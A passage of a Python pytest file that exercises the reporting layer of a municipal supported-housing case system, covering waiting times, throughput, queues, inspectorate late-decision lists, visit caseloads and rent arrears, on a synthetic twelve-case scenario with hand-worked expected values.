"""The read-model reports on a small municipality with chosen dates, against answers worked
out by hand from the definitions in docs/metrics.md (the arithmetic is in the comments).

The scenario goes through the real application service (SQLite event store) and the real
projection (SQLite view); nothing is mocked. Twelve cases, eight apartments:

  case client group    district programme  applied     decided (outcome)   move-in     closed
  c01  k-1    subst.   Norrmalm training   2025-01-10  2025-02-09 granted  2025-03-11  2026-07-05 first-hand
  c02  k-2    families Farsta   municipal  2025-02-01  2025-03-13 granted  2025-04-12  2025-10-12 own_housing
  c03  k-3    subst.   Farsta   -          2025-09-15  2025-10-20 denied   -           2025-10-20 (denied)
  c04  k-4    young    Norrmalm training   2025-06-01  2025-07-04 granted  2025-11-01  open (training)
  c05  k-5    subst.   Norrmalm hous.first 2025-08-01  2025-09-01 granted  2025-09-20  2026-08-10 deceased
  c06  k-6    families Norrmalm training   2026-01-02  2026-01-31 granted  2026-04-30  open (training)
  c07  k-7    subst.   Farsta   training   2026-01-05  2026-01-31 granted  2026-05-01  2026-09-15 terminated
  c08  k-8    young    Norrmalm municipal  2026-01-20  2026-02-15 granted  -           open (waiting)
  c09  k-9    families Farsta   training   2025-12-01  2026-01-10 granted  2026-08-20  open (training)
  c10  k-10   subst.   Norrmalm hous.first 2026-01-08  2026-02-01 granted  -           2026-07-15 withdrawn
  c11  k-1    subst.   Norrmalm -          2027-03-01  -                   -           open (applied)
  c12  k-12   young    Farsta   training   2026-03-01  2026-03-31 granted  2026-07-01  open (training)

(subst. = substance_abuse, families = families_with_children, young = young_adults;
training = training_apartment, municipal = municipal_contract, hous.first = housing_first.)
c01's takeover is approved on 2026-06-20; c11 is c01's client applying again.
"""

from __future__ import annotations

import json
from collections import Counter
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from application.store import HousingChain
from domain.policy import Policy
from projections import reports
from projections.runner import ProjectionRunner
from projections.view import open_view
from tests.builders import Lines, sqlite_env

TODAY = date(2027, 6, 30)
POLICY = Policy()  # weekly visits for 3 months after move-in, then monthly


def d(text: str) -> date:
    return date.fromisoformat(text)


class Scenario:
    """Collects dated import lines, then runs them in date order through the service."""

    def __init__(self) -> None:
        self.line = Lines("s")
        self.steps: list[tuple[str, int, Any]] = []
        self.counters: Counter[str] = Counter()

    def at(self, day: str, type_: str, key: str, actor: str = "cw-anna", **fields: Any) -> None:
        self.counters[key] += 1
        command_id = f"{key}-{self.counters[key]}"
        if type_ not in ("register_apartment", "return_apartment"):
            fields["case"] = key
        line = self.line(type_, on=d(day), actor=actor, id=command_id, **fields)
        self.steps.append((day, len(self.steps), line))

    def apply(self, day: str, case: str, client_id: str, target_group: str, district: str) -> None:
        self.at(day, "apply", case,
                client={"id": client_id, "target_group": target_group, "district": district})

    def register(self, day: str, apartment: str, landlord: str = "Framtiden",
                 **extra: Any) -> None:
        self.at(day, "register_apartment", apartment, apartment=apartment, landlord=landlord,
                rooms=2, **extra)

    def house(self, case: str, apartment: str, offer: str, approve: str, move_in: str) -> None:
        self.at(offer, "offer", case, apartment=apartment)
        self.at(approve, "landlord_decision", case, actor="Framtiden", approved=True)
        self.at(move_in, "move_in", case, apartment=apartment)

    def course(self, case: str, *days: str) -> None:
        for session, day in enumerate(days, start=1):
            self.at(day, "course_session", case, session=session)

    def run(self, tmp: Path) -> tuple[HousingChain, Any]:
        app = HousingChain(env=sqlite_env(tmp / "e.sqlite"))
        ordered = [line for _, _, line in sorted(self.steps, key=lambda s: (s[0], s[1]))]
        results = app.run(ordered, today=TODAY, policy=POLICY)
        refused = [(r.command_id, r.reason) for r in results if not r.accepted]
        assert not refused, refused
        view = open_view(sqlite_env(tmp / "v.sqlite"))
        ProjectionRunner(app, view).catch_up()
        return app, view


def municipality() -> Scenario:
    s = Scenario()
    for apartment, day in (("A1", "2025-02-20"), ("A2", "2025-03-20"), ("A3", "2025-09-01"),
                           ("A4", "2026-04-01"), ("A5", "2026-04-01"), ("A6", "2026-07-01"),
                           ("A7", "2026-06-20"), ("A8", "2026-10-01")):
        s.register(day, apartment)

    s.apply("2025-01-10", "c01", "k-1", "substance_abuse", "Norrmalm")
    s.at("2025-01-15", "start_assessment", "c01")
    s.at("2025-02-09", "decide", "c01", outcome="granted", programme="training_apartment")
    s.course("c01", "2025-02-10", "2025-02-17", "2025-02-24", "2025-03-03")
    s.house("c01", "A1", "2025-03-03", "2025-03-05", "2025-03-11")
    s.at("2026-03-20", "refer_takeover", "c01")
    s.at("2026-06-20", "takeover_decision", "c01", actor="Framtiden", approved=True)
    s.at("2026-07-05", "exit", "c01", destination="first_hand_lease")

    s.apply("2025-02-01", "c02", "k-2", "families_with_children", "Farsta")
    s.at("2025-02-03", "start_assessment", "c02")
    s.at("2025-03-13", "decide", "c02", outcome="granted", programme="municipal_contract")
    s.house("c02", "A2", "2025-04-01", "2025-04-02", "2025-04-12")
    s.at("2025-10-12", "exit", "c02", destination="own_housing")

    s.apply("2025-09-15", "c03", "k-3", "substance_abuse", "Farsta")
    s.at("2025-09-16", "start_assessment", "c03")
    s.at("2025-10-20", "decide", "c03", outcome="denied", reason="not in the target groups")

    s.apply("2025-06-01", "c04", "k-4", "young_adults", "Norrmalm")
    s.at("2025-06-02", "start_assessment", "c04")
    s.at("2025-07-04", "decide", "c04", outcome="granted", programme="training_apartment")
    s.house("c04", "A2", "2025-10-20", "2025-10-22", "2025-11-01")  # A2 let again
    s.course("c04", "2025-11-05", "2025-11-12", "2025-11-19", "2025-11-26")
    s.at("2026-03-01", "rent_arrears", "c04", amount="1500.50")
    s.at("2026-03-10", "repayment_plan", "c04")
    s.at("2026-12-10", "record_visit", "c04", actor="bolots-ahmed", kind="home_visit")

    s.apply("2025-08-01", "c05", "k-5", "substance_abuse", "Norrmalm")
    s.at("2025-08-05", "start_assessment", "c05")
    s.at("2025-09-01", "decide", "c05", outcome="granted", programme="housing_first")
    s.house("c05", "A3", "2025-09-10", "2025-09-12", "2025-09-20")
    s.at("2026-08-10", "exit", "c05", destination="deceased")
    s.at("2026-09-01", "return_apartment", "A3", apartment="A3")

    s.apply("2026-01-02", "c06", "k-6", "families_with_children", "Norrmalm")
    s.at("2026-01-05", "start_assessment", "c06")
    s.at("2026-01-31", "decide", "c06", outcome="granted", programme="training_apartment")
    s.course("c06", "2026-02-10", "2026-02-17", "2026-02-24", "2026-03-03")
    s.house("c06", "A4", "2026-04-20", "2026-04-25", "2026-04-30")
    s.at("2026-10-01", "rent_arrears", "c06", amount="2000.00")
    s.at("2026-11-20", "record_visit", "c06", actor="bolots-berit", kind="home_visit")

    s.apply("2026-01-05", "c07", "k-7", "substance_abuse", "Farsta")
    s.at("2026-01-06", "start_assessment", "c07")
    s.at("2026-01-31", "decide", "c07", outcome="granted", programme="training_apartment")
    s.course("c07", "2026-02-10", "2026-02-17")
    s.house("c07", "A5", "2026-04-25", "2026-04-27", "2026-05-01")
    s.at("2026-07-10", "record_visit", "c07", actor="bolots-berit", kind="home_visit")
    s.at("2026-08-01", "rent_arrears", "c07", amount="800.00")
    s.at("2026-09-15", "exit", "c07", destination="terminated")

    s.apply("2026-01-20", "c08", "k-8", "young_adults", "Norrmalm")
    s.at("2026-01-21", "start_assessment", "c08")
    s.at("2026-02-15", "decide", "c08", outcome="granted", programme="municipal_contract")

    s.apply("2025-12-01", "c09", "k-9", "families_with_children", "Farsta")
    s.at("2025-12-02", "start_assessment", "c09")
    s.at("2026-01-10", "decide", "c09", outcome="granted", programme="training_apartment")
    s.house("c09", "A6", "2026-08-01", "2026-08-05", "2026-08-20")
    s.at("2026-11-15", "record_visit", "c09", actor="bolots-berit", kind="home_visit")

    s.apply("2026-01-08", "c10", "k-10", "substance_abuse", "Norrmalm")
    s.at("2026-01-09", "start_assessment", "c10")
    s.at("2026-02-01", "decide", "c10", outcome="granted", programme="housing_first")
    s.at("2026-07-15", "exit", "c10", destination="withdrawn")

    s.apply("2027-03-01", "c11", "k-1", "substance_abuse", "Norrmalm")

    s.apply("2026-03-01", "c12", "k-12", "young_adults", "Farsta")
    s.at("2026-03-02", "start_assessment", "c12")
    s.at("2026-03-31", "decide", "c12", outcome="granted", programme="training_apartment")
    s.house("c12", "A7", "2026-06-25", "2026-06-28", "2026-07-01")
    return s


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    app, view = municipality().run(tmp_path_factory.mktemp("reports"))
    yield app, view
    app.close()


@pytest.fixture(scope="module")
def view(world):
    return world[1]


@pytest.fixture(scope="module")
def app(world):
    return world[0]


def stats(count: int, mean: float | None, median: float | None, p90: float | None
          ) -> dict[str, Any]:
    return {"count": count, "mean_days": mean, "median_days": median, "p90_days": p90}


# --- waiting times -------------------------------------------------------------------------

def test_waiting_time_application_to_decision_is_grouped_by_the_year_of_the_decision(view):
    result = reports.waiting_times(view, "application-to-decision", "year", as_of=d("2027-06-30"))
    assert result["rows"] == [
        # decided in 2025: c01 01-10→02-09 = 30, c02 02-01→03-13 = 27+13 = 40,
        # c03 09-15→10-20 = 15+20 = 35 (a denial is a decision), c04 06-01→07-04 = 33,
        # c05 08-01→09-01 = 31. Sorted 30, 31, 33, 35, 40 → mean 169/5 = 33.8, median 33,
        # p90: position 0.9·4 = 3.6 → 35 + 0.6·(40−35) = 38.0
        {"group": "2025", **stats(5, 33.8, 33.0, 38.0)},
        # decided in 2026: c06 01-02→01-31 = 29, c07 01-05→01-31 = 26, c08 01-20→02-15 = 26,
        # c09 2025-12-01→2026-01-10 = 30+10 = 40 (grouped by the later date), c10 01-08→02-01 = 24,
        # c12 03-01→03-31 = 30. Sorted 24, 26, 26, 29, 30, 40 → mean 175/6 = 29.17 → 29.2,
        # median (26+29)/2 = 27.5, p90: position 0.9·5 = 4.5 → 30 + 0.5·(40−30) = 35.0
        {"group": "2026", **stats(6, 29.2, 27.5, 35.0)},
    ]
    # c11 applied 2027-03-01 and is undecided: 31+30+31+29 = 121 days so far on 2027-06-30
    assert result["still_waiting"] == {"count": 1, "mean_days_so_far": 121.0, "as_of": "2027-06-30"}


def test_waiting_time_by_target_group_keeps_only_intervals_whose_later_date_is_in_from_to(view):
    result = reports.waiting_times(view, "application-to-decision", "target-group",
                                   date_from=d("2026-01-01"), date_to=d("2026-03-31"),
                                   as_of=d("2027-06-30"))
    # decisions dated 2026-01-01..2026-03-31 (both ends inclusive; c12's decision is on the
    # 31st): c09's application of 2025-12-01 counts, because its decision is in the period
    assert result["rows"] == [
        # c06 29, c09 40 → mean 34.5, median 34.5, p90 = 29 + 0.9·(40−29) = 38.9
        {"group": "families_with_children", **stats(2, 34.5, 34.5, 38.9)},
        # c07 26, c10 24 → mean 25, median 25, p90 = 24 + 0.9·(26−24) = 25.8
        {"group": "substance_abuse", **stats(2, 25.0, 25.0, 25.8)},
        # c08 26, c12 30 → mean 28, median 28, p90 = 26 + 0.9·(30−26) = 29.6
        {"group": "young_adults", **stats(2, 28.0, 28.0, 29.6)},
    ]
    # the cases still waiting are not limited by --from/--to: c11, 121 days
    assert result["still_waiting"]["count"] == 1


def test_waiting_time_decision_to_move_in_counts_granted_decisions_by_target_group(view):
    result = reports.waiting_times(view, "decision-to-move-in", "target-group",
                                   as_of=d("2027-06-30"))
    assert result["rows"] == [
        # c02 03-13→04-12 = 30, c06 01-31→04-30 = 28+31+30 = 89,
        # c09 01-10→08-20 = 21+28+31+30+31+30+31+20 = 222 → mean 341/3 = 113.67 → 113.7,
        # median 89, p90: position 0.9·2 = 1.8 → 89 + 0.8·(222−89) = 195.4
        {"group": "families_with_children", **stats(3, 113.7, 89.0, 195.4)},
        # c05 09-01→09-20 = 19, c01 02-09→03-11 = 19+11 = 30, c07 01-31→05-01 = 90
        # (c03 was denied: not counted) → mean 139/3 = 46.33 → 46.3, median 30,
        # p90 = 30 + 0.8·(90−30) = 78.0
        {"group": "substance_abuse", **stats(3, 46.3, 30.0, 78.0)},
        # c12 03-31→07-01 = 92, c04 07-04→11-01 = 31+31+30+28 = 120 → mean 106, median 106,
        # p90 = 92 + 0.9·(120−92) = 117.2
        {"group": "young_adults", **stats(2, 106.0, 106.0, 117.2)},
    ]
    # c08 granted 2026-02-15, never moved in, still open: 365 + 120 + 15 = 500 days on
    # 2027-06-30; c10 was granted but withdrew before moving in, so it waits no more
    assert result["still_waiting"] == {"count": 1, "mean_days_so_far": 500.0, "as_of": "2027-06-30"}


def test_waiting_time_filtered_by_programme_counts_moves_after_as_of_as_still_waiting(view):
    result = reports.waiting_times(view, "decision-to-move-in", "year", date_from=d("2026-01-01"),
                                   date_to=d("2026-06-30"), as_of=d("2026-06-30"),
                                   programme="training_apartment")
    # training-apartment move-ins dated 2026-01-01..2026-06-30: c06 89, c07 90
    # (c01 and c04 moved in during 2025; c08 and c10 are other programmes)
    # → mean 89.5, median 89.5, p90 = 89 + 0.9·1 = 89.9
    assert result["rows"] == [{"group": "2026", **stats(2, 89.5, 89.5, 89.9)}]
    # on 2026-06-30 c09 (granted 01-10: 21+28+31+30+31+30 = 171 days) and c12 (granted
    # 03-31: 30+31+30 = 91 days) had not moved in yet (they did on 08-20 and 07-01)
    # → count 2, mean (171+91)/2 = 131
    assert result["still_waiting"] == {"count": 2, "mean_days_so_far": 131.0, "as_of": "2026-06-30"}


def test_waiting_time_move_in_to_exit_filtered_by_district(view):
    result = reports.waiting_times(view, "move-in-to-exit", "year", as_of=d("2027-06-30"),
                                   district="Norrmalm")
    # Norrmalm exits after a move-in: c01 2025-03-11→2026-07-05 = 365 + 116 = 481 and
    # c05 2025-09-20→2026-08-10 = 365 − 41 = 324 (deceased is an exit too), both in 2026
    # → mean 402.5, median 402.5, p90 = 324 + 0.9·(481−324) = 465.3.
    # (c02's exit is in Farsta; c07's too.)
    assert result["rows"] == [{"group": "2026", **stats(2, 402.5, 402.5, 465.3)}]
    # still in a Norrmalm tenancy on 2027-06-30: c04 since 2025-11-01 = 365 + 212 + 29 = 606,
    # c06 since 2026-04-30 = 365 + 61 = 426 → mean 516
    assert result["still_waiting"] == {"count": 2, "mean_days_so_far": 516.0, "as_of": "2027-06-30"}


def test_waiting_time_application_to_housed_ends_only_at_an_exit_to_permanent_housing(view):
    result = reports.waiting_times(view, "application-to-housed", "year", as_of=d("2026-12-31"))
    assert result["rows"] == [
        # c02 2025-02-01 → own housing 2025-10-12 = 242 + 11 = 253
        {"group": "2025", **stats(1, 253.0, 253.0, 253.0)},
        # c01 2025-01-10 → first-hand lease 2026-07-05 = 365 + 176 = 541
        {"group": "2026", **stats(1, 541.0, 541.0, 541.0)},
    ]
    # open on 2026-12-31 (closed to other destinations are not waiting: c03 c05 c07 c10):
    # c04 from 2025-06-01 = 365 + 213 = 578, c06 from 2026-01-02 = 363, c08 from 01-20 = 345,
    # c09 from 2025-12-01 = 365 + 30 = 395, c12 from 03-01 = 305 (c11 applies only in 2027)
    # → count 5, mean 1986/5 = 397.2
    assert result["still_waiting"] == {"count": 5, "mean_days_so_far": 397.2, "as_of": "2026-12-31"}
    by_group = reports.waiting_times(view, "application-to-housed", "target-group",
                                     as_of=d("2026-12-31"))
    assert [(r["group"], r["count"], r["mean_days"]) for r in by_group["rows"]] == [
        ("families_with_children", 1, 253.0), ("substance_abuse", 1, 541.0)]


def test_a_district_no_case_or_notice_is_in_is_refused_naming_the_option_and_the_known_ones(view):
    """Filtered by a misspelt district, every case is filtered away: the empty answer would
    read as nobody waiting there."""
    from application.reporting import report_options, run_report

    asked = report_options(interval="decision-to-move-in", district="Nowhere")
    with pytest.raises(reports.ReportError) as refused:
        run_report(view, "waiting-times", asked, POLICY, TODAY)
    assert str(refused.value) == ("--district: 'Nowhere' is not a district; "
                                  "known: Farsta, Norrmalm")
    farsta = report_options(interval="decision-to-move-in", district="Farsta")
    assert run_report(view, "waiting-times", farsta, POLICY, TODAY)["rows"]


def test_a_district_of_the_readers_units_is_a_district_before_its_first_case(view):
    from application.reporting import report_options, run_report

    asked = report_options(interval="decision-to-move-in", district="Spånga")
    answer = run_report(view, "waiting-times", asked, POLICY, TODAY, units=("Spånga",))
    assert answer["rows"] == [] and answer["still_waiting"]["count"] == 0
    with pytest.raises(reports.ReportError, match="known: Farsta, Norrmalm, Skärholmen$"):
        run_report(view, "waiting-times", asked, POLICY, TODAY, units=("Skärholmen",))


def test_a_programme_or_target_group_the_domain_does_not_have_is_refused_listing_its_values():
    from application.errors import BadInput
    from application.reporting import report_options

    with pytest.raises(BadInput) as refused:
        report_options(programme="housing-first")
    assert str(refused.value) == ("--programme: 'housing-first' is not a programme; known: "
                                  "training_apartment, housing_first, municipal_contract")
    with pytest.raises(BadInput) as refused:
        report_options(target_group="addiction")
    assert str(refused.value).startswith(
        "--target-group: 'addiction' is not a target group; known: substance_abuse, ")
    assert str(refused.value).endswith(", other")
    chosen = report_options(programme="housing_first", target_group="young_adults")
    assert (chosen.programme, chosen.target_group) == ("housing_first", "young_adults")


# --- throughput ----------------------------------------------------------------------------

def test_throughput_by_quarter_counts_inflow_outflow_active_and_the_permanent_share(view):
    rows = reports.throughput(view, "quarter")["rows"]
    assert rows == [
        # applications c01 c02; grants c01 (02-09) c02 (03-13); active 2
        {"group": "2025Q1", "applications": 2, "grants": 2, "exits": {}, "active_at_end": 2,
         "net_change": 2, "permanent_share": None, "takeovers": 0},
        # application c04 (06-01); active 3
        {"group": "2025Q2", "applications": 1, "grants": 0, "exits": {}, "active_at_end": 3,
         "net_change": 1, "permanent_share": None, "takeovers": 0},
        # applications c05 c03; grants c04 (07-04) c05 (09-01); active 5
        {"group": "2025Q3", "applications": 2, "grants": 2, "exits": {}, "active_at_end": 5,
         "net_change": 2, "permanent_share": None, "takeovers": 0},
        # application c09; c02 to own housing, c03 denied (closes the case, listed as an
        # exit); active 5 + 1 − 2 = 4, net −1; permanent share 1/1 = 1.0 (denied is not in
        # the denominator, else it would be 0.5)
        {"group": "2025Q4", "applications": 1, "grants": 0,
         "exits": {"denied": 1, "own_housing": 1}, "active_at_end": 4, "net_change": -1,
         "permanent_share": 1.0, "takeovers": 0},
        # applications c06 c07 c10 c08 c12; grants c09 c06 c07 c10 c08 c12; active 9
        {"group": "2026Q1", "applications": 5, "grants": 6, "exits": {}, "active_at_end": 9,
         "net_change": 5, "permanent_share": None, "takeovers": 0},
        # c01's takeover approved 2026-06-20 (its exit comes in Q3)
        {"group": "2026Q2", "applications": 0, "grants": 0, "exits": {}, "active_at_end": 9,
         "net_change": 0, "permanent_share": None, "takeovers": 1},
        # c01 first-hand lease, c10 withdrawn, c05 deceased, c07 terminated: active 9 − 4 = 5;
        # permanent share 1 / (4 − 1 deceased) = 0.333
        {"group": "2026Q3", "applications": 0, "grants": 0,
         "exits": {"deceased": 1, "first_hand_lease": 1, "terminated": 1, "withdrawn": 1},
         "active_at_end": 5, "net_change": -4, "permanent_share": 0.333, "takeovers": 0},
        {"group": "2026Q4", "applications": 0, "grants": 0, "exits": {}, "active_at_end": 5,
         "net_change": 0, "permanent_share": None, "takeovers": 0},
        # c11 (2027-03-01) is the last fact, so the last period; active 6 =
        # c04 c06 c08 c09 c11 c12
        {"group": "2027Q1", "applications": 1, "grants": 0, "exits": {}, "active_at_end": 6,
         "net_change": 1, "permanent_share": None, "takeovers": 0},
    ]
    # 12 applications − 6 closures = 6 active at the end
    assert sum(r["net_change"] for r in rows) == rows[-1]["active_at_end"] == 6


def test_throughput_from_to_selects_the_periods_and_net_change_is_against_the_day_before(view):
    rows = reports.throughput(view, "year", d("2026-01-01"), d("2026-12-31"))["rows"]
    # 2026: 5 applications, 6 grants, 4 exits, 1 takeover; active 4 on 2025-12-31 → 5 on
    # 2026-12-31, net +1 = 5 − 4
    assert rows == [{"group": "2026", "applications": 5, "grants": 6,
                     "exits": {"deceased": 1, "first_hand_lease": 1, "terminated": 1,
                               "withdrawn": 1},
                     "active_at_end": 5, "net_change": 1, "permanent_share": 0.333,
                     "takeovers": 1}]


def test_throughput_without_to_reaches_the_last_grant_or_takeover(tmp_path):
    s = Scenario()
    s.apply("2026-01-10", "x1", "k-x1", "elderly", "Farsta")
    s.at("2026-01-12", "start_assessment", "x1")
    s.at("2026-04-10", "decide", "x1", outcome="granted", programme="municipal_contract")
    app, view = s.run(tmp_path)
    try:
        rows = reports.throughput(view, "quarter")["rows"]
        # the grant of 2026-04-10 belongs to 2026Q2; the case is still active at its end
        assert [(r["group"], r["applications"], r["grants"], r["active_at_end"]) for r in rows] \
            == [("2026Q1", 1, 0, 1), ("2026Q2", 0, 1, 1)]
    finally:
        app.close()


# --- queue ---------------------------------------------------------------------------------

def test_queue_at_a_past_date_lists_granted_cases_not_yet_moved_in_with_days_waiting(view):
    q = reports.queue(view, d("2026-03-31"), "district")
    # on 2026-03-31: c09 80 (21+28+31), c06 59 (28+31), c07 59, c10 58 (27+31), c08 44
    # (13+31), c12 0 (decided that day); longest first, then by case
    assert [(r["case"], r["district"], r["decision_date"], r["days_waiting"]) for r in q["rows"]] == [
        ("c09", "Farsta", "2026-01-10", 80), ("c06", "Norrmalm", "2026-01-31", 59),
        ("c07", "Farsta", "2026-01-31", 59), ("c10", "Norrmalm", "2026-02-01", 58),
        ("c08", "Norrmalm", "2026-02-15", 44), ("c12", "Farsta", "2026-03-31", 0)]
    assert q["groups"] == [
        # Farsta 0, 59, 80 → mean 139/3 = 46.3, median 59, p90 = 59 + 0.8·21 = 75.8
        {"group": "Farsta", **stats(3, 46.3, 59.0, 75.8)},
        # Norrmalm 44, 58, 59 → mean 161/3 = 53.7, median 58, p90 = 58 + 0.8·1 = 58.8
        {"group": "Norrmalm", **stats(3, 53.7, 58.0, 58.8)},
    ]
    q = reports.queue(view, d("2026-06-30"), "district")
    # on 2026-06-30 c06 (moved in 04-30) and c07 (05-01) have left the queue; c10 withdraws
    # only on 07-15 and c12 moves in only on 07-01
    assert [(r["case"], r["days_waiting"]) for r in q["rows"]] == [
        ("c09", 171), ("c10", 149), ("c08", 135), ("c12", 91)]
    # each one's three-month limit (decision + 3 months) passed before 06-30 but c12's
    # (03-31 → 06-30, today: not yet late)
    assert [(r["case"], r["deadline"]) for r in q["rows"]] == [
        ("c09", "2026-04-10"), ("c10", "2026-05-01"), ("c08", "2026-05-15"),
        ("c12", "2026-06-30")]
    assert q["past_deadline"] == 3
    assert q["groups"] == [
        # Farsta 91, 171 → mean 131, median 131, p90 = 91 + 0.9·80 = 163.0
        {"group": "Farsta", **stats(2, 131.0, 131.0, 163.0)},
        # Norrmalm 135, 149 → mean 142, median 142, p90 = 135 + 0.9·14 = 147.6
        {"group": "Norrmalm", **stats(2, 142.0, 142.0, 147.6)},
    ]


# --- the inspectorate (IVO) report ---------------------------------------------------------

def test_ivo_report_lists_a_decision_late_when_not_executed_by_the_three_month_day(view):
    result = reports.ivo(view, "2026Q2")
    assert (result["quarter"], result["first_day"], result["last_day"]) == (
        "2026Q2", "2026-04-01", "2026-06-30")
    assert [(r["case"], r["client"], r["decision_date"], r["programme"], r["days_waiting"],
             r["status"], r["executed_on"]) for r in result["rows"]] == [
        # unexecuted on 2026-06-30, deadline passed; days = 06-30 − decision date
        ("c09", "k-9", "2026-01-10", "training_apartment", 171, "unexecuted", None),   # 04-10
        ("c10", "k-10", "2026-02-01", "housing_first", 149, "unexecuted", None),       # 05-01
        ("c08", "k-8", "2026-02-15", "municipal_contract", 135, "unexecuted", None),   # 05-15
        # c12: decided 03-31, limit 06-30 = the quarter's last day, not executed by its end
        # (moved in 07-01): late in this quarter, 30+31+30 = 91 days
        ("c12", "k-12", "2026-03-31", "training_apartment", 91, "unexecuted", None),
        # decided 2026-01-31: deadline 2026-04-30 (three calendar months, clamped); moved in
        # 05-01, inside the quarter → executed late, 28+31+30+1 = 90 days
        ("c07", "k-7", "2026-01-31", "training_apartment", 90, "executed_late", "2026-05-01"),
    ]


def test_ivo_a_decision_of_the_31st_executed_on_the_30th_three_months_later_is_not_late(view):
    # c06: decided 2026-01-31, moved in 2026-04-30 = its deadline day: in time, so it is in
    # neither quarter's report (c07, same decision date, moved in 05-01 and is listed)
    for quarter in ("2026Q1", "2026Q2", "2026Q3"):
        assert "c06" not in {r["case"] for r in reports.ivo(view, quarter)["rows"]}


def test_ivo_a_late_decision_stays_each_quarter_until_executed_or_closed(view):
    result = reports.ivo(view, "2026Q3")
    assert [(r["case"], r["days_waiting"], r["status"], r["executed_on"])
            for r in result["rows"]] == [
        # c08 still unexecuted on 09-30: 135 + 92 = 227 days (it was listed in Q2 too)
        ("c08", 227, "unexecuted", None),
        # c09 (listed unexecuted in Q2) moved in 08-20: late, 171 + 31 + 20 = 222 days
        ("c09", 222, "executed_late", "2026-08-20"),
        # c12: decided 03-31, limit 06-30 = Q2's last day (listed unexecuted in Q2); moved in
        # 07-01, one day after the limit: executed late, 30+31+30+1 = 92 days
        ("c12", 92, "executed_late", "2026-07-01"),
    ]
    # c10, unexecuted in Q2, withdrew on 07-15 (closed): it drops out; c07 was executed in Q2


def test_ivo_a_decision_whose_limit_is_the_quarters_last_day_is_in_that_quarter(view):
    rows = {r["case"]: r for r in reports.ivo(view, "2026Q2")["rows"]}
    assert (rows["c12"]["deadline"], rows["c12"]["status"], rows["c12"]["rule"]) == (
        "2026-06-30", "unexecuted", reports.IVO_UNEXECUTED)
    # and a quarter before any deadline passed lists nothing of 2026's decisions
    assert reports.ivo(view, "2026Q1")["rows"] == []


def test_ivo_boundary_a_decision_of_june_30th_unexecuted_on_september_30th_is_in_q3(tmp_path):
    s = Scenario()
    # b1: decided 2025-06-30 → limit 2025-09-30 (three calendar months), Q3's last day; still
    # waiting at the end of that day → 2025Q3, 92 days (07: 31, 08: 31, 09: 30); then again
    # in Q4 while unexecuted: 92 + 31 + 30 + 31 = 184 days on 2025-12-31.
    # b2: decided the same day, moved in on 2025-09-30, the limit day itself: in time, never
    # listed. b3: decided 2025-07-01 → limit 2025-10-01: not in Q3; in Q4, moved in 10-02,
    # one day late: executed late, 30+31+30+1+1 = 93 days.
    for case in ("b1", "b2", "b3"):
        s.apply("2025-06-01", case, f"k-{case}", "elderly", "Farsta")
        s.at("2025-06-02", "start_assessment", case)
    s.register("2025-06-01", "B2")
    s.register("2025-06-01", "B3")
    s.at("2025-06-30", "decide", "b1", outcome="granted", programme="municipal_contract")
    s.at("2025-06-30", "decide", "b2", outcome="granted", programme="municipal_contract")
    s.at("2025-07-01", "decide", "b3", outcome="granted", programme="municipal_contract")
    s.house("b2", "B2", "2025-09-20", "2025-09-25", "2025-09-30")
    s.house("b3", "B3", "2025-09-20", "2025-09-25", "2025-10-02")
    app, view = s.run(tmp_path)
    try:
        q3 = reports.ivo(view, "2025Q3")["rows"]
        assert [(r["case"], r["deadline"], r["days_waiting"], r["status"], r["rule"])
                for r in q3] == [
            ("b1", "2025-09-30", 92, "unexecuted", reports.IVO_UNEXECUTED)]
        q4 = reports.ivo(view, "2025Q4")["rows"]
        assert [(r["case"], r["days_waiting"], r["status"], r["executed_on"], r["rule"])
                for r in q4] == [
            ("b1", 184, "unexecuted", None, reports.IVO_UNEXECUTED),
            ("b3", 93, "executed_late", "2025-10-02", reports.IVO_EXECUTED_LATE)]
    finally:
        app.close()


# --- caseload, course, arrears, stock, returns, history ------------------------------------

def test_caseload_per_housing_pilot_counts_visits_overdue_weekly_then_monthly(view):
    result = reports.caseload(view, d("2026-12-31"), POLICY)
    rows = {r["pilot"]: r for r in result["rows"]}
    assert [r["pilot"] for r in result["rows"]] == [
        "bolots-berit", "(none; caseworker cw-anna)", "bolots-ahmed"]
    # bolots-berit made the latest home visits of c06 and c09 (c07's tenancy ended):
    # c06 moved in 04-30, visited 11-20, after the weekly months (until 07-30) → next due
    # one month later, 12-20: 11 days overdue on 12-31;
    # c09 moved in 08-20, visited 11-15, before 11-20 (three months after move-in) → next
    # due a week later, 11-22: 8 + 31 = 39 days overdue
    assert rows["bolots-berit"]["cases"] == 2
    assert rows["bolots-berit"]["overdue_visits"] == 2
    assert sorted(rows["bolots-berit"]["overdue"], key=lambda o: o["case"]) == [
        {"case": "c06", "due": "2026-12-20", "days_overdue": 11},
        {"case": "c09", "due": "2026-11-22", "days_overdue": 39}]
    # c12 moved in 07-01 and was never visited: due 07-08, 23+31+30+31+30+31 = 176 days
    assert rows["(none; caseworker cw-anna)"] == {
        "pilot": "(none; caseworker cw-anna)", "cases": 1, "overdue_visits": 1,
        "overdue": [{"case": "c12", "due": "2026-07-08", "days_overdue": 176}]}
    # c04 visited 12-10, monthly by then → due 2027-01-10: not overdue
    assert rows["bolots-ahmed"] == {"pilot": "bolots-ahmed", "cases": 1, "overdue_visits": 0,
                                    "overdue": []}


def test_course_completion_rate_among_new_tenants(view):
    # tenants (moved in at some time): c01 c02 c04 c05 c06 c07 c09 c12 = 8; all four
    # sessions: c01 c04 c06 = 3 → 3/8 = 0.375
    result = reports.caseload(view, d("2026-12-31"), POLICY)
    assert result["course"] == {"new_tenants": 8, "completed": 3, "completion_rate": 0.375}
    # moved in during 2026: c06 c07 c09 c12; completed c06 → 1/4 = 0.25
    result = reports.caseload(view, d("2026-12-31"), POLICY, d("2026-01-01"), d("2026-12-31"))
    assert result["course"] == {"new_tenants": 4, "completed": 1, "completion_rate": 0.25}


def test_rent_arrears_outstanding_per_case_and_in_total(view):
    result = reports.arrears(view)
    assert result["rows"] == [
        {"case": "c06", "client": "k-6", "stage": "training", "amount": "2000.00",
         "repayment_plan": False},
        {"case": "c04", "client": "k-4", "stage": "training", "amount": "1500.50",
         "repayment_plan": True},
        {"case": "c07", "client": "k-7", "stage": "closed", "amount": "800.00",
         "repayment_plan": False},
    ]
    # 2000.00 + 1500.50 + 800.00 = 4300.50; without a repayment plan: c06, c07
    assert (result["total"], result["without_plan"]) == ("4300.50", 2)


def test_stock_reuse_rate_and_vacant_days_leave_out_returned_spells(view):
    result = reports.stock(view, d("2026-12-31"))
